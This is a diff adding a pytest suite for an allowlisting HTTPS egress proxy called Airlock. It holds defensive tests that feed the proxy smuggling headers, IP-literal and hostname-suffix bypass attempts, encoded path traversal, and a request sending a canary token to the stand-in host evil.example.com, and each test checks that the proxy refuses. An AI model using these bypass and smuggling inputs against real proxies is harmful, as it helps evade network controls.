@@ -1,0 +1,420 @@
+"""The proxy core, driven with the real `curl` and Python `requests` through the real binary."""
+
+from __future__ import annotations
+
+import json
+import signal
+import socket
+import ssl
+import subprocess
+import threading
+import time
+
+import pytest
+import requests
+
+from conftest import launch
+
+
+def proxied_session(airlock) -> requests.Session:
+    """A session that uses only the given proxy and CA, whatever the environment says."""
+    session = requests.Session()
+    session.trust_env = False
+    session.proxies = {"https": airlock.proxy}
+    session.verify = str(airlock.ca)
+    return session
+
+
+def curl(airlock, url: str, *args: str, timeout: float = 20) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        ["curl", "-sS", "--proxy", airlock.proxy, "--cacert", str(airlock.ca), "-o", "-", "-w", "\n%{http_code} %{http_connect}", *args, url],
+        capture_output=True, timeout=timeout,
+    )
+
+
+def split(result: subprocess.CompletedProcess) -> tuple[bytes, int]:
+    """The body and the status: the request's, or the CONNECT's when the tunnel was refused."""
+    body, _, codes = result.stdout.rpartition(b"\n")
+    request, connect = (int(c) for c in codes.split())
+    return body, request or connect
+
+
+def raw_connect(airlock, target: str) -> socket.socket:
+    sock = socket.create_connection(("127.0.0.1", airlock.port), timeout=10)
+    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    return sock
+
+
+def read_response(sock) -> bytes:
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = sock.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+    head, _, rest = data.partition(b"\r\n\r\n")
+    length = 0
+    for line in head.split(b"\r\n")[1:]:
+        name, _, value = line.partition(b":")
+        if name.strip().lower() == b"content-length":
+            length = int(value.strip())
+    while len(rest) < length:
+        chunk = sock.recv(65536)
+        if not chunk:
+            break
+        rest += chunk
+    return head + b"\r\n\r\n" + rest
+
+
+def test_allowed_request_reaches_standin_byte_for_byte(airlock, standin):
+    server, _ = standin
+    payload = json.dumps({"model": "gpt-test", "messages": [{"role": "user", "content": "hello"}]})
+    body, code = split(curl(airlock, "https://api.openai.com/v1/chat/completions", "-H", "Content-Type: application/json", "--data", payload))
+    assert code == 200
+    echo = json.loads(body)
+    assert echo["body"] == payload and echo["host"] == "api.openai.com"
+    assert server.state.requests[-1].body == payload.encode()
+    # a binary response comes back unchanged
+    body, code = split(curl(airlock, "https://api.openai.com/bytes"))
+    assert code == 200 and body == bytes(range(256)) * 64
+
+
+def test_denied_host_gets_403_json_and_no_upstream_connection(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    result = subprocess.run(
+        ["curl", "-sS", "-i", "--proxy", airlock.proxy, "--cacert", str(airlock.ca), "https://evil.example.com/"],
+        capture_output=True, timeout=20,
+    )
+    assert b"403" in result.stdout.split(b"\r\n", 1)[0] or b"403" in result.stderr
+    sock = raw_connect(airlock, "evil.example.com:443")
+    response = read_response(sock)
+    head, _, body = response.partition(b"\r\n\r\n")
+    assert head.startswith(b"HTTP/1.1 403")
+    assert b"x-airlock-denied: host_not_allowlisted" in head.lower()
+    error = json.loads(body)["error"]
+    assert error["type"] == "airlock_denied" and error["reason"] == "host_not_allowlisted" and error["host"] == "evil.example.com"
+    assert error["message"]
+    assert server.state.connections == 0
+
+
+@pytest.mark.parametrize(
+    "target,reason",
+    [
+        ("api.openai.com:8443", "port_not_allowed"),
+        ("127.0.0.1:443", "ip_literal_not_allowed"),
+        ("2130706433:443", "ip_literal_not_allowed"),
+        ("[::1]:443", "ip_literal_not_allowed"),
+        ("api.openai.com.evil.com:443", "host_not_allowlisted"),
+    ],
+)
+def test_connect_refusals(airlock, standin, target, reason):
+    server, _ = standin
+    server.state.reset()
+    response = read_response(raw_connect(airlock, target))
+    assert response.startswith(b"HTTP/1.1 403")
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == reason
+    assert server.state.connections == 0
+
+
+def test_absolute_form_http_is_refused(airlock, standin):
+    sock = socket.create_connection(("127.0.0.1", airlock.port), timeout=10)
+    sock.sendall(b"POST http://api.openai.com/v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 2\r\n\r\n{}")
+    response = read_response(sock)
+    assert response.startswith(b"HTTP/1.1 403")
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "scheme_not_allowed"
+
+
+def test_sse_arrives_incrementally(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    session = proxied_session(airlock)
+    with session.post("https://api.openai.com/sse", json={"stream": True}, stream=True, timeout=20) as response:
+        assert response.status_code == 200
+        assert response.headers["content-type"] == "text/event-stream"
+        lines = response.iter_lines()
+        first = next(line for line in lines if line)
+        # The stand-in has not sent the last event yet: it waits for this release.
+        assert first == b'data: {"n": 1}'
+        assert not server.state.sse_release.is_set()
+        server.state.sse_release.set()
+        rest = [line for line in lines if line]
+    assert rest == [b'data: {"n": 2}', b"data: [DONE]"]
+
+
+def test_chunked_response_is_relayed(airlock, standin):
+    body, code = split(curl(airlock, "https://api.openai.com/chunked"))
+    assert code == 200 and json.loads(body) == {"parts": [1, 2, 3]}
+
+
+def test_host_header_mismatch_is_refused(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    body, code = split(curl(airlock, "https://api.openai.com/v1/models", "-H", "Host: api.anthropic.com"))
+    assert code == 403
+    assert json.loads(body)["error"]["reason"] == "host_header_mismatch"
+    assert not server.state.requests
+
+
+def test_sni_mismatch_is_refused(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    sock = raw_connect(airlock, "api.openai.com:443")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += sock.recv(1)
+    assert head.startswith(b"HTTP/1.1 200")
+    context = ssl.create_default_context(cafile=str(airlock.ca))
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    tls = context.wrap_socket(sock, server_hostname="api.anthropic.com")
+    tls.sendall(b"GET /v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
+    response = read_response(tls)
+    assert response.startswith(b"HTTP/1.1 403")
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "sni_mismatch"
+    assert not server.state.requests
+
+
+def test_missing_sni_is_refused(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    sock = raw_connect(airlock, "api.openai.com:443")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += sock.recv(1)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    tls = context.wrap_socket(sock)  # no server_hostname: no SNI
+    tls.sendall(b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
+    response = read_response(tls)
+    assert response.startswith(b"HTTP/1.1 403")
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "sni_missing"
+    assert not server.state.requests
+
+
+def intercepted(airlock, host: str = "api.openai.com") -> ssl.SSLSocket:
+    sock = raw_connect(airlock, f"{host}:443")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += sock.recv(1)
+    assert head.startswith(b"HTTP/1.1 200"), head
+    context = ssl.create_default_context(cafile=str(airlock.ca))
+    return context.wrap_socket(sock, server_hostname=host)
+
+
+def test_oversized_body_gets_413(tmp_path, standin):
+    server, ca = standin
+    server.state.reset()
+    instance = launch(tmp_path, server, ca, extra=[])
+    try:
+        # limits.max_request_body defaults to 32 MiB; send a declared 40 MiB body
+        tls = intercepted(instance)
+        tls.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 41943040\r\n\r\n")
+        response = read_response(tls)
+        assert response.startswith(b"HTTP/1.1 413")
+        assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "request_too_large"
+        # and a chunked body that grows past the limit
+        body, code = split(curl(instance, "https://api.openai.com/v1/x", "-H", "Transfer-Encoding: chunked", "--data-binary", "@" + str(big_file(tmp_path))))
+        assert code == 413
+        assert not server.state.requests
+    finally:
+        instance.process.kill()
+
+
+def big_file(tmp_path):
+    path = tmp_path / "big.bin"
+    with open(path, "wb") as f:
+        f.write(b"a" * (33 * 1024 * 1024))
+    return path
+
+
+def test_content_length_with_transfer_encoding_is_refused(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    tls = intercepted(airlock)
+    tls.sendall(
+        b"POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+    )
+    response = read_response(tls)
+    assert response.startswith(b"HTTP/1.1 400")
+    body = json.loads(response.partition(b"\r\n\r\n")[2])
+    assert body["error"]["type"] == "airlock_error"
+    # the connection is closed afterwards
+    tls.settimeout(5)
+    assert tls.recv(1) == b""
+    assert not server.state.requests
+
+
+def test_conflicting_content_lengths_are_refused(airlock, standin):
+    tls = intercepted(airlock)
+    tls.sendall(b"POST /v1/x HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}")
+    assert read_response(tls).startswith(b"HTTP/1.1 400")
+
+
+def test_many_requests_share_one_tunnel(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    session = proxied_session(airlock)
+    for i in range(20):
+        response = session.post("https://api.openai.com/v1/chat/completions", json={"i": i}, timeout=10)
+        assert response.status_code == 200
+        assert json.loads(response.json()["body"]) == {"i": i}
+    assert len(server.state.requests) == 20
+    # one client tunnel, and upstream connections pooled rather than one per request
+    assert server.state.connections <= 2
+
+
+def test_host_checked_on_every_request_of_a_tunnel(airlock, standin):
+    tls = intercepted(airlock)
+    tls.sendall(b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
+    assert read_response(tls).startswith(b"HTTP/1.1 200")
+    tls.sendall(b"GET /v1/models HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
+    response = read_response(tls)
+    assert response.startswith(b"HTTP/1.1 403")
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "host_header_mismatch"
+
+
+def test_method_and_path_rules(airlock, standin):
+    body, code = split(curl(airlock, "https://other.test/v1/things", "--data", "{}"))
+    assert code == 200
+    body, code = split(curl(airlock, "https://other.test/v1/things"))
+    assert code == 403 and json.loads(body)["error"]["reason"] == "method_not_allowed"
+    body, code = split(curl(airlock, "https://other.test/admin", "--data", "{}"))
+    assert code == 403 and json.loads(body)["error"]["reason"] == "path_not_allowed"
+    body, code = split(curl(airlock, "https://other.test/v1/%2e%2e/admin", "--data", "{}", "--path-as-is"))
+    assert code == 403 and json.loads(body)["error"]["reason"] == "path_not_canonical"
+
+
+def test_tunnel_mode_relays_without_interception(airlock, standin):
+    server, standin_ca = standin
+    result = subprocess.run(
+        ["curl", "-sS", "--proxy", airlock.proxy, "--cacert", str(standin_ca), "https://tunnel.test/v1/echo", "--data", "tunnelled"],
+        capture_output=True, timeout=20,
+    )
+    # The certificate is the stand-in's own: Airlock did not terminate TLS.
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["body"] == "tunnelled"
+
+
+def test_upstream_certificate_is_verified(tmp_path, standin):
+    server, _ = standin
+    # Without --upstream-ca the stand-in's certificate is not trusted: Airlock answers 502, never forwards.
+    instance = launch(tmp_path, server, tmp_path / "missing-ca.pem", expect_ready=False)
+    instance.process.wait(timeout=20)
+    assert instance.process.returncode != 0
+    ca_file = tmp_path / "other-ca.pem"
+    from standin import make_test_pki
+    other_dir = tmp_path / "other"
+    other_dir.mkdir()
+    other_ca, _, _ = make_test_pki(other_dir)
+    sub = tmp_path / "run2"
+    sub.mkdir()
+    instance = launch(sub, server, other_ca)
+    try:
+        server.state.reset()
+        body, code = split(curl(instance, "https://api.openai.com/v1/models"))
+        assert code == 502
+        assert json.loads(body)["error"]["reason"] == "upstream_tls_failed"
+        assert not server.state.requests
+    finally:
+        instance.process.kill()
+
+
+def test_sighup_reloads_allowlist(airlock, standin):
+    body, code = split(curl(airlock, "https://api.anthropic.com/v1/messages", "--data", "{}"))
+    assert code == 200
+    airlock.allowlist.write_text("version: 1\nentries:\n  - host: api.openai.com\n    purpose: only OpenAI now\n")
+    airlock.process.send_signal(signal.SIGHUP)
+    deadline = time.time() + 10
+    while time.time() < deadline:
+        body, code = split(curl(airlock, "https://api.anthropic.com/v1/messages", "--data", "{}"))
+        if code == 403:
+            break
+        time.sleep(0.1)
+    assert code == 403
+    response = read_response(raw_connect(airlock, "api.anthropic.com:443"))
+    assert json.loads(response.partition(b"\r\n\r\n")[2])["error"]["reason"] == "host_not_allowlisted"
+    # An invalid allowlist on reload keeps the previous one.
+    airlock.allowlist.write_text("version: 1\nentries:\n  - host: '*'\n")
+    airlock.process.send_signal(signal.SIGHUP)
+    time.sleep(0.5)
+    body, code = split(curl(airlock, "https://api.openai.com/v1/models"))
+    assert code == 200
+    assert "allowlist reload failed" in airlock.output()
+
+
+def test_sigterm_finishes_in_flight_request_and_exits_zero(airlock, standin):
+    server, _ = standin
+    server.state.reset()
+    session = proxied_session(airlock)
+    result: dict = {}
+
+    def stream():
+        with session.post("https://api.openai.com/sse", json={}, stream=True, timeout=20) as response:
+            result["lines"] = [line for line in response.iter_lines() if line]
+
+    thread = threading.Thread(target=stream)
+    thread.start()
+    assert server.state.sse_first_sent.wait(10)
+    airlock.process.send_signal(signal.SIGTERM)
+    time.sleep(0.3)
+    # no new connections are accepted
+    with pytest.raises(OSError):
+        socket.create_connection(("127.0.0.1", airlock.port), timeout=2).sendall(b"x")
+        raise OSError
+    server.state.sse_release.set()
+    thread.join(10)
+    assert result["lines"][-1] == b"data: [DONE]"
+    assert airlock.process.wait(timeout=20) == 0
+
+
+def test_invalid_allowlist_refuses_to_start(tmp_path, standin):
+    server, ca = standin
+    instance = launch(tmp_path, server, ca, allowlist="version: 1\nentries:\n  - host: api.openai.com\n    mode: sideways\n", expect_ready=False)
+    assert instance.process.wait(timeout=20) == 2
+    err = instance.stderr_path.read_text()
+    assert "allowlist.yaml:4:11" in err and "unknown mode" in err
+
+
+def test_non_loopback_listen_requires_proxy_auth(tmp_path, standin):
+    server, ca = standin
+    instance = launch(tmp_path, server, ca, extra=["--listen", "0.0.0.0:0"], expect_ready=False)
+    assert instance.process.wait(timeout=20) == 2
+    assert "proxy authentication" in instance.stderr_path.read_text()
+
+
+def test_proxy_authentication(tmp_path, standin):
+    server, ca = standin
+    creds = tmp_path / "creds"
+    creds.write_text("alice:s3cret-canary-pw\n")
+    instance = launch(tmp_path, server, ca, extra=["--proxy-auth-file", str(creds)])
+    try:
+        response = read_response(raw_connect(instance, "api.openai.com:443"))
+        assert response.startswith(b"HTTP/1.1 407")
+        assert b"proxy-authenticate: basic" in response.lower()
+        ok = subprocess.run(
+            ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--proxy", instance.proxy, "--proxy-user", "alice:s3cret-canary-pw",
+             "--cacert", str(instance.ca), "https://api.openai.com/v1/models"], capture_output=True, timeout=20,
+        )
+        assert ok.stdout == b"200"
+        bad = subprocess.run(
+            ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_connect}", "--proxy", instance.proxy, "--proxy-user", "alice:wrong",
+             "--cacert", str(instance.ca), "https://api.openai.com/v1/models"], capture_output=True, timeout=20,
+        )
+        assert bad.stdout == b"407"
+    finally:
+        instance.stop()
+    assert "s3cret-canary-pw" not in instance.output()
+
+
+def test_logs_hold_no_query_strings_bodies_or_credentials(airlock, standin):
+    canary = "CANARY-q7Zp3"
+    curl(airlock, f"https://api.openai.com/v1/models?key={canary}-query",
+         "-H", f"Authorization: Bearer {canary}-auth", "-H", f"x-api-key: {canary}-xkey",
+         "-H", f"Cookie: session={canary}-cookie", "--data", f'{{"prompt": "{canary}-body"}}')
+    curl(airlock, f"https://evil.example.com/path?token={canary}-denied")
+    airlock.stop()
+    output = airlock.output()
+    assert "request" in output and "/v1/models" in output
+    assert canary not in output
